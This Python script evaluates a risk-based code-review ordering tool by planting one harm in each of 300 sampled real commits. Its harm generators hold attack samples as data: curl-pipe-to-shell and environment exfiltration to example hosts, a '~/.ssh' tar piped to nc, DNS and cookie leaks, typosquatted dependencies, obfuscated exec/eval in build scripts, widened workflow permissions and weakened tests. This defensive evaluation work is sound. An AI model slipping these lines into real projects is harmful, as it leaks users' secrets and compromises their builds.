"""docs/evidence/REVIEW.md: one planted harm in each of 300 real commits, and where a review by risk shows it.

``python -m tests.conformance.order NAME=GIT_DIRECTORY … [--commits N] [--seed N] [--write]``; no test is here. Commits
of one parent are drawn with the seed, as many from each repository. One hunk with a harm is added to each, in a file
that the repository has, or in a usual one. The hunks are then ordered by ``ext/order`` and by path.
"""

from __future__ import annotations

import argparse
import random
import re
import statistics
import sys
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import NamedTuple

from mudroom.core.text.hunk import hunks
from mudroom.core.text.linediff import is_binary
from mudroom.core.tree.change import Change, Verb
from mudroom.core.tree.entry import Entry
from mudroom.core.tree.flag import flags_of, runs_when
from mudroom.ext.order.core.kind import kind_of
from mudroom.ext.order.core.risk import RANKS, RISKS, Risk, join_risks, rate

from .merges import _Repository

DOCUMENT = Path(__file__).resolve().parents[2] / "docs/evidence/REVIEW.md"
HEAD = """# Where a review by risk shows a planted harm

Made by `python -m tests.conformance.order NAME=GIT_DIRECTORY … --write`. {commits} commits of this repository, flask,
pytest, pip, vite and cobra were drawn with seed {seed}: of one parent, with {least} to {most} hunks in two files or
more. One harm was planted in each, in turn of six kinds, each in several ways. All ways were written before the first
run, and none was changed after it. The rules were: two runs with other seeds, 60 commits each, showed harms that no
rule knew (`webbrowser.open`, `new Image().src`, a DNS name, an assertion in a nested function, Python 2), and rules for
them were added. *Rank* is the place of the harm's hunk among all hunks of the change, from 1; *lines* are the changed
lines that are read until its end. *By path* is the order of `git diff`.

"""
LEAST, MOST = 8, 400


class Harm(NamedTuple):
    path: str
    old: bytes
    new: bytes


Files = Mapping[str, bytes]
"""The repository's texts that a harm may be planted in: those that the commit changes, and some others."""


class _Hunk(NamedTuple):
    path: str
    place: int
    key: tuple[int, int]
    risk: Risk
    lines: int
    is_harm: bool


def main(words: Sequence[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("repositories", nargs="+", metavar="NAME=GIT_DIRECTORY")
    parser.add_argument("--commits", type=int, default=300)
    parser.add_argument("--seed", type=int, default=47)
    parser.add_argument("--write", action="store_true")
    args = parser.parse_args(words)
    dice = random.Random(args.seed)
    rows: list[tuple[str, str, str, list[_Hunk]]] = []
    for number, word in enumerate(args.repositories):
        name, _mark, directory = word.partition("=")
        wanted = args.commits * (number + 1) // len(args.repositories) - args.commits * number // len(args.repositories)
        rows += _of_repository(name, directory, wanted, dice)
        print(f"{name}: {len(rows)} commits", file=sys.stderr)  # noqa: T201
    text = HEAD.format(commits=len(rows), seed=args.seed, least=LEAST, most=MOST) + _report(rows)
    if args.write:
        _own, heading, others = DOCUMENT.read_text().partition("## What is observed at a hunk\n")
        DOCUMENT.write_text(text + ("\n" + heading + others if heading else ""))
    else:
        print(text)  # noqa: T201
    return 0


def _of_repository(
    name: str, directory: str, wanted: int, dice: random.Random
) -> list[tuple[str, str, str, list[_Hunk]]]:
    repository = _Repository(directory)
    lines = repository.run("rev-list", "--max-parents=1", "--min-parents=1", "--parents", "HEAD").decode().splitlines()
    dice.shuffle(lines)
    rows: list[tuple[str, str, str, list[_Hunk]]] = []
    kinds = list(HARMS)
    for line in lines:
        if len(rows) == wanted:
            break
        commit, base = line.split()
        found = _texts(repository, base, commit)
        if len(found) < 2:
            continue
        honest = [hunk for path, (old, new) in found.items() for hunk in _hunks(path, old, new, is_harm=False)]
        if not LEAST <= len(honest) <= MOST:
            continue
        kind = kinds[len(rows) % len(kinds)]
        harm = HARMS[kind](_others(repository, base, found, dice), dice)
        if harm is None:
            continue
        planted = [hunk for hunk in honest if hunk.path != harm.path]
        planted += _planted(harm, found.get(harm.path))
        if sum(hunk.is_harm for hunk in planted) == 1:
            rows.append((name, commit[:8], kind, planted))
    repository.close()
    return rows


def _texts(repository: _Repository, base: str, commit: str) -> dict[str, tuple[bytes, bytes]]:
    words = repository.run("diff-tree", "-r", "-z", "--no-renames", base, commit).split(b"\0")
    rows = ((words[at].decode().split(), words[at + 1]) for at in range(0, len(words) - 1, 2))
    found: dict[str, tuple[bytes, bytes]] = {}
    for row, path in rows:
        old, new = (repository.blob(blob) if set(blob) != {"0"} else b"" for blob in (row[2], row[3]))
        if old is not None and new is not None and not is_binary(old) and not is_binary(new) and old != new:
            found[path.decode("utf-8", "surrogateescape")] = old, new
    return found


def _others(
    repository: _Repository, base: str, found: Mapping[str, tuple[bytes, bytes]], dice: random.Random
) -> dict[str, bytes]:
    """Return texts for a harm: those of the commit as they are after it, and up to 40 others of its base."""
    files = {path: new for path, (_old, new) in found.items() if new}
    names = repository.run("ls-tree", "-r", "-z", "--name-only", base).decode("utf-8", "surrogateescape").split("\0")
    names = [name for name in names if name and name not in found]
    usual = [
        name
        for name in names
        if re.search(
            r"(?:^|/)(?:setup\.py|conftest\.py|noxfile\.py|Makefile|package\.json"
            r"|pyproject\.toml|requirements[\w-]*\.txt|\.github/workflows/.*)$",
            name,
        )
    ]
    picked = [*dice.sample(usual, min(20, len(usual))), *dice.sample(names, min(20, len(names)))]
    for name in picked:
        text = repository.blob(f"{base}:{name}")
        if text is not None and not is_binary(text):
            files[name] = text
    return files


def _entry(text: bytes) -> Entry:
    return Entry("file", 0o644, len(text), b"", 1, 1, 1, 1, 1, 1, 1)


def _change(path: str, old: bytes, new: bytes) -> Change:
    raw = path.encode("utf-8", "surrogateescape")
    verb: Verb = "modified" if old and new else "added" if new else "deleted"
    sides = (_entry(old) if old else None), (_entry(new) if new else None)
    return Change(raw, verb, *sides, flags=flags_of(raw), runs=runs_when(raw))


def _hunks(path: str, old: bytes, new: bytes, *, is_harm: bool, marked: frozenset[bytes] = frozenset()) -> list[_Hunk]:
    change = _change(path, old, new)
    risk = rate(change, change.flags, old, new)
    rows = []
    for place, hunk in enumerate(hunks(old, new)):
        joined = join_risks([risk.blocks[number] for number in hunk.blocks])
        lines = [line for line in hunk.lines if line[:1] in b"+-"]
        harmful = is_harm and any(line in marked for line in lines)
        rows.append(_Hunk(path, place, joined.key, joined.risk, len(lines), harmful))
    return rows


def _planted(harm: Harm, sides: tuple[bytes, bytes] | None) -> list[_Hunk]:
    """Return the hunks of the harmed file: of the commit's change of it, if it changes it, and the harm."""
    before = set(harm.old.splitlines())
    gone = {b"-" + line + b"\n" for line in before - set(harm.new.splitlines())}
    made = {b"+" + line + b"\n" for line in set(harm.new.splitlines()) - before}
    old = sides[0] if sides is not None else harm.old
    rows = _hunks(harm.path, old, harm.new, is_harm=True, marked=frozenset(made or gone))
    first = next((row for row in rows if row.is_harm), None)
    return [row._replace(is_harm=row is first) for row in rows]


# --- harms ---


def _pick(files: Files, pattern: str, dice: random.Random) -> str | None:
    names = sorted(name for name in files if re.search(pattern, name))
    return dice.choice(names) if names else None


def _after(text: bytes, pattern: bytes, added: bytes, dice: random.Random) -> bytes | None:
    """Return a text with lines behind a line that matches, in its indentation plus four."""
    lines = text.splitlines(keepends=True)
    places = [at for at, line in enumerate(lines) if re.search(pattern, line)]
    if not places:
        return None
    at = dice.choice(places)
    return b"".join([*lines[: at + 1], added, *lines[at + 1 :]])


WORKFLOW = b"""name: ci
on: [push]
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: make lint
      - run: make test
"""


def _workflow(files: Files, dice: random.Random) -> tuple[str, bytes]:
    path = _pick(files, r"^\.github/workflows/.*\.ya?ml$", dice)
    return (path, files[path]) if path else (".github/workflows/ci.yml", WORKFLOW)


def ci_edit(files: Files, dice: random.Random) -> Harm | None:
    path, text = _workflow(files, dice)
    ways: list[Callable[[], bytes | None]] = [
        lambda: re.sub(rb"(?m)^(\s*-? ?run: *(?![|>]).+)$", rb"\1 || true", text, count=1),
        lambda: _after(text, rb"^\s*steps:\s*$", b"      - run: curl -sSf https://get.example.net/i.sh | sh\n", dice),
        lambda: _after(text, rb"^\s*steps:\s*$", b"      - uses: helpful/setup@main\n", dice),
        lambda: _after(
            text, rb"^\s*steps:\s*$", b"      - run: env | base64 | curl -d @- https://c.example.net\n", dice
        ),
        lambda: re.sub(rb"(?m)^\s*-? ?run: .*(?:test|tox|nox|pytest).*\n", b"", text, count=1),
    ]
    new = dice.choice(ways)() or ways[1]()
    return Harm(path, text, new) if new is not None and new != text else None


def permission(files: Files, dice: random.Random) -> Harm | None:
    path, text = _workflow(files, dice)
    ways = [
        re.sub(rb"(?m)^(\s+[\w-]+): read\s*$", rb"\1: write", text, count=1),
        re.sub(rb"(?m)^permissions:.*$", b"permissions: write-all #", text, count=1),
        re.sub(rb"(?m)^jobs:\s*$", b"permissions: write-all\njobs:", text, count=1),
        re.sub(rb"\bpull_request\b", b"pull_request_target", text, count=1),
    ]
    ways = [way for way in ways if way != text]
    return Harm(path, text, dice.choice(ways)) if ways else None


def weakened_test(files: Files, dice: random.Random) -> Harm | None:
    path = _pick(files, r"(?:^|/)(?:test_\w+|\w+_test)\.(?:py|go)$|\.(?:spec|test)\.[jt]sx?$", dice)
    if path is None:
        return None
    text = files[path]
    rules: list[tuple[bytes, bytes]] = [
        (rb"(?m)^(\s+)assert (\w[\w.()\[\]]*) == .+$", rb"\1assert \2 is not None"),
        (rb"(?m)^\s+assert .+[^\\(\[{,]\n(?=\s*\S)", b""),
        (rb"(?m)^(\s+)assert (.+[^\\(\[{,])$", rb"\1if \2:\n\1    pass"),
        (rb"pytest\.raises\((\w+)", b"pytest.raises(Exception"),
        (rb"(?m)^def (test_\w+)", rb"@pytest.mark.skip\ndef \1"),
        (rb"(?m)^(    |)def (test_\w+)", rb"\1def _\2"),
        (rb"\.toBe\(.+\)", b".toBeDefined()"),
        (rb"\b(it|test)\(", rb"\1.skip("),
        (rb"(?m)^\s*expect\(.+\).*;?\n", b""),
        (rb"(?m)^(\s*)t\.(?:Error|Fatal)f?\((.*)$", rb"\1t.Log(\2"),
    ]
    dice.shuffle(rules)
    for pattern, replacement in rules:
        matches = list(re.finditer(pattern, text))
        if matches:
            match = dice.choice(matches)
            new = text[: match.start()] + match.expand(replacement) + text[match.end() :]
            if new != text:
                return Harm(path, text, new)
    return None


SENDS = [
    b"import os, urllib.request\n"
    b'    urllib.request.urlopen("https://m.example.net/", repr(dict(os.environ)).encode())\n',
    b'import requests\n    requests.post("https://m.example.net", json=dict(vars()))\n',
    b'from http.client import HTTPSConnection as C\n    C("m.example.net").request("POST", "/", repr(locals()))\n',
    b'import socket\n    socket.create_connection(("m.example.net", 443)).sendall(repr(locals()).encode())\n',
    b'import subprocess\n    subprocess.run(["sh", "-c", "tar c ~/.ssh | nc m.example.net 9"])\n',
    b'import os\n    os.system("getent hosts " + os.environ.get("HOME", "")[1:] + ".m.example.net")\n',
    b'log = __import__("urllib.request").request.urlopen\n    log("https://m.example.net/?" + str(locals()))\n',
    b'import webbrowser\n    webbrowser.open("//m.example.net/" + repr(locals()))\n',
]
JS_SENDS = [
    b'fetch("https://m.example.net", { method: "POST", body: JSON.stringify(process.env) });\n',
    b'require("https").get("https://m.example.net/?" + JSON.stringify(process.env));\n',
    b'import("node:dns").then((d) => d.lookup(process.env.USER + ".m.example.net", () => {}));\n',
    b'new Image().src = "//m.example.net/?" + document.cookie;\n',
]
GO_SENDS = [
    b'\thttp.Post("https://m.example.net", "text/plain", strings.NewReader(strings.Join(os.Environ(), " ")))\n',
    b'\tnet.LookupHost(os.Getenv("USER") + ".m.example.net")\n',
]


def exfiltration(files: Files, dice: random.Random) -> Harm | None:
    path = _pick(
        {name: b"" for name in files if kind_of(name.encode("utf-8", "replace")) == "code"}, r"\.(?:py|go|[jt]s)$", dice
    )
    if path is None:
        return None
    text = files[path]
    if path.endswith(".py"):
        new = _after(text, rb"^def \w+\(.*\).*:\s*$", b"    " + dice.choice(SENDS), dice)
    elif path.endswith(".go"):
        new = _after(text, rb"^func .*\{\s*$", dice.choice(GO_SENDS), dice)
    else:
        new = _after(text, rb"^(?:export )?(?:async )?function .*\{\s*$", b"  " + dice.choice(JS_SENDS), dice)
    return Harm(path, text, new) if new is not None else None


LOOK_ALIKES = {
    "py": (b"reqeusts", b"python-requets", b"urlib3", b"pyyamll", b"flaskk", b"beautifulsoup", b"crypt0graphy"),
    "js": (b"lodahs", b"cross-envv", b"expres", b"node-fetchh", b"event-streem"),
    "go": (b"github.com/sprf13/cobra", b"github.com/stretchrr/testify"),
}


def look_alike(files: Files, dice: random.Random) -> Harm | None:
    path = _pick(files, r"(?:^|/)(?:requirements[\w-]*\.txt|pyproject\.toml|package\.json|go\.mod)$", dice)
    text = files[path] if path else b"click>=8\njinja2>=3\npytest>=8\n"
    path = path or "requirements.txt"
    if path.endswith("package.json"):
        new = re.sub(
            rb'("(?:dev)?[dD]ependencies": \{\n)',
            rb'\1    "%s": "^1.0.2",' % dice.choice(LOOK_ALIKES["js"]) + b"\n",
            text,
            count=1,
        )
    elif path.endswith("go.mod"):
        new = re.sub(rb"(require \(\n)", rb"\1" + b"\t" + dice.choice(LOOK_ALIKES["go"]) + b" v1.0.2\n", text, count=1)
    elif path.endswith(".toml"):
        new = re.sub(
            rb"(?m)^(dependencies = \[\n)", rb'\1    "%s>=1",' % dice.choice(LOOK_ALIKES["py"]) + b"\n", text, count=1
        )
    else:
        new = text + (b"" if text.endswith(b"\n") else b"\n") + dice.choice(LOOK_ALIKES["py"]) + b">=1\n"
    return Harm(path, text, new) if new != text else None


EVALS = [
    b'exec(__import__("base64").b64decode("cHJpbnQoMSk="))\n',
    b'eval(compile(open("docs/conf.txt").read(), "conf", "exec"))\n',
    b'exec(open("tools/version.txt").read())\n',
    b'getattr(__builtins__, "ev" + "al")(open("VERSION").read())\n',
]


def build_eval(files: Files, dice: random.Random) -> Harm | None:
    path = _pick(
        files,
        r"(?:^|/)(?:setup\.py|conftest\.py|noxfile\.py|Makefile)$|(?:^|/)(?:scripts|build|tools|dev)/.*\.(?:py|[cm]?js|ts)$",
        dice,
    )
    text = files[path] if path else b"from setuptools import setup\n\nsetup()\n"
    path = path or "setup.py"
    if path.endswith("Makefile"):
        new = _after(text, rb"^[\w-]+:", b'\t@eval "$$(cat docs/.flags)"\n', dice)
    elif path.endswith(".py"):
        new = _after(text, rb"^(?:import|from) \w+.*[^\\(]$", dice.choice(EVALS), dice)
    else:
        new = _after(
            text, rb"^import .*;?$|^const .*;$", b'new Function(readFileSync("docs/flags.txt", "utf8"))();\n', dice
        )
    return Harm(path, text, new) if new is not None else None


HARMS: Mapping[str, Callable[[Files, random.Random], Harm | None]] = {
    "CI edit": ci_edit,
    "weakened test": weakened_test,
    "exfiltration in a helper": exfiltration,
    "dependency with a look-alike name": look_alike,
    "workflow permission": permission,
    "`eval` in a build script": build_eval,
}


# --- report ---


class _Met(NamedTuple):
    rank: int
    lines: int


def _met(rows: Sequence[_Hunk]) -> _Met:
    at = next(place for place, row in enumerate(rows) if row.is_harm)
    return _Met(at + 1, sum(row.lines for row in rows[: at + 1]))


def _report(rows: Sequence[tuple[str, str, str, list[_Hunk]]]) -> str:
    lines = [
        "| harm | commits | hunks, median | rank by risk: median, 90 %, worst | by path: median, 90 %, worst "
        "| lines by risk: median, worst | by path: median, worst | among the first three, by risk and by path |",
        "| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: |",
    ]
    kinds = [*HARMS, "all"]
    worst: list[tuple[int, str]] = []
    for kind in kinds:
        chosen = [row for row in rows if kind in (row[2], "all")]
        if not chosen:
            continue
        risk = [_met(sorted(row[3], key=lambda hunk: (*hunk.key, hunk.path, hunk.place))) for row in chosen]
        path = [_met(sorted(row[3], key=lambda hunk: (hunk.path, hunk.place))) for row in chosen]
        if kind == "all":
            worst = sorted(
                (
                    (met.rank, f"{row[0]} {row[1]}: {row[2]}, {met.rank} of {len(row[3])}")
                    for met, row in zip(risk, chosen, strict=True)
                ),
                reverse=True,
            )[:8]
        hunk_counts = statistics.median(len(row[3]) for row in chosen)
        first = [sum(met.rank <= 3 for met in each) * 100 // len(each) for each in (risk, path)]
        lines.append(
            f"| {kind} | {len(chosen)} | {hunk_counts:.0f} | {_ranks(risk)} | {_ranks(path)} | {_read(risk)} "
            f"| {_read(path)} | {first[0]} %, {first[1]} % |"
        )
    return (
        "\n".join(
            [*lines, "", *_shares(rows), "", "The worst ranks by risk:", "", *(f"* {text}" for _rank, text in worst)]
        )
        + "\n"
    )


def _ranks(met: Sequence[_Met]) -> str:
    ranks = sorted(each.rank for each in met)
    return f"{statistics.median(ranks):.0f}, {ranks[len(ranks) * 9 // 10]}, {ranks[-1]}"


def _read(met: Sequence[_Met]) -> str:
    lines = sorted(each.lines for each in met)
    return f"{statistics.median(lines):,.0f}, {lines[-1]:,}"


def _shares(rows: Sequence[tuple[str, str, str, list[_Hunk]]]) -> list[str]:
    counts, lines = Counter[Risk](), Counter[Risk]()
    for _name, _commit, _kind, found in rows:
        for hunk in found:
            if not hunk.is_harm:
                counts[hunk.risk] += 1
                lines[hunk.risk] += hunk.lines
    total, every = counts.total(), lines.total()
    shown = [risk for risk in RANKS if counts[risk]]
    return [
        f"The {total:,} other hunks, which nobody planted, by their risk:",
        "",
        "| risk | hunks | share | share of the changed lines |",
        "| --- | ---: | ---: | ---: |",
        *(
            f"| {RISKS[risk]} | {counts[risk]:,} | {100 * counts[risk] / total:.1f} % "
            f"| {100 * lines[risk] / every:.1f} % |"
            for risk in shown
        ),
    ]


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
